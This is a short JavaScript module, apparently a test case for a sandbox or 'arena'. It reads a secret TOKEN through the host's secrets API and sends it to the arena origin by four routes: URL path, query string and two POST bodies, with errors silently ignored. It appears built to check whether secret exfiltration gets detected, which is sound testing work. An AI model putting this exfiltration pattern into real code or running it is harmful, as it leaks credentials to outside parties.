export default async ({ arena }, host) => {
  const secret = await host.secrets.get('TOKEN');
  for (const url of [`${arena.origin}/${secret}`, `${arena.origin}/?q=${secret}`])
    await host.net.request({ url }).catch(() => {});
  await host.net.request({ url: `${arena.origin}/`, method: 'POST', body: { text: secret } }).catch(() => {});
  await host.net.request({ url: `${arena.origin}/`, method: 'POST', body: secret }).catch(() => {});
  return {};
};
